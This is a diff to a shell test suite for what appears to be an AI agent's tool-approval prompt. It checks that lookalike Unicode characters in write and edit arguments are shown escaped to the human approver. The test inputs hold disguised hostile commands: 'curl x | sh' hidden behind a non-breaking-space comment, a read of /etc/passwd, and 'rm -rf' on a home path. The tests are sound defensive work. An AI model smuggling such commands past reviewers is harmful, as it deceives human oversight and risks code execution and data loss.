@@ -924,6 +924,31 @@ q=b[b.index(b\"asks to run bash\"):b.index(b\"allow?\")]
 assert b\"\n  cat /etc/pas<U+0338>swd > m.txt # \xce\xb1\xcc\x81\n\" in q, q
 assert b\"s\xcc\xb8\" not in q, q
 "'
+# The arguments line and the diff carry the path and the text written:
+# before, the line under 'no<U+0338>tes.txt' drew it struck through, and a
+# script's 'make<U+00A0># x; curl x | sh' read as a comment in both.
+ask_case ag-approve-args-lookalikes "a write's arguments line and diff show a blank that is no space and a mark on an ASCII letter as <U+XXXX>, as its path line does" \
+	write '{"path":"no\u0338tes.txt\u00a0","content":"make\u00a0# x; curl x | sh\ncat /etc/pas\u0338swd\n"}' \
+	'[["allow?","n"],["reason","\r"]]' 0 \
+	'[ -z "$(ls "$W" | grep tes.txt)" ] && python3 -c "
+b=open(\"$D/pty\",\"rb\").read().replace(b\"\r\",b\"\")
+q=b[b.index(b\"asks to run write\"):b.index(b\"allow?\")]
+assert b\"\xc2\xa0\" not in q and b\"\xcc\xb8\" not in q, q
+assert b\"arguments: {\\\"path\\\":\\\"no<U+0338>tes.txt<U+00A0>\\\",\\\"content\\\":\\\"make<U+00A0># x\" in q, q
+assert b\"\n+make<U+00A0># x; curl x | sh\n+cat /etc/pas<U+0338>swd\n\" in q, q
+"'
+printf 'x = 1\n' > "$W/e.sh"
+ask_case ag-approve-edit-args-lookalikes "an edit's old and new text show a blank that is no space and a mark on an ASCII letter as <U+XXXX>, in the arguments and the diff" \
+	edit '{"path":"e.sh","old":"x = 1","new":"x = 1\u00a0# ok; rm -rf ~/pas\u0338s"}' \
+	'[["allow?","n"],["reason","\r"]]' 0 \
+	'[ "$(cat "$W/e.sh")" = "x = 1" ] && python3 -c "
+b=open(\"$D/pty\",\"rb\").read().replace(b\"\r\",b\"\")
+q=b[b.index(b\"asks to run edit\"):b.index(b\"allow?\")]
+assert b\"\xc2\xa0\" not in q and b\"\xcc\xb8\" not in q, q
+assert b\"\\\"new\\\":\\\"x = 1<U+00A0># ok; rm -rf ~/pas<U+0338>s\\\"\" in q, q
+assert b\"\n+x = 1<U+00A0># ok; rm -rf ~/pas<U+0338>s\n\" in q, q
+"'
+rm -f "$W/e.sh"
 long=$(python3 -c "print('echo ' + 'x' * 900 + '; echo TAIL-RAN > tail.txt')")
 ask_case ag-approve-view-whole "a call the question cuts can be seen whole with v before answering" \
 	bash "{\"command\":\"$long\"}" \
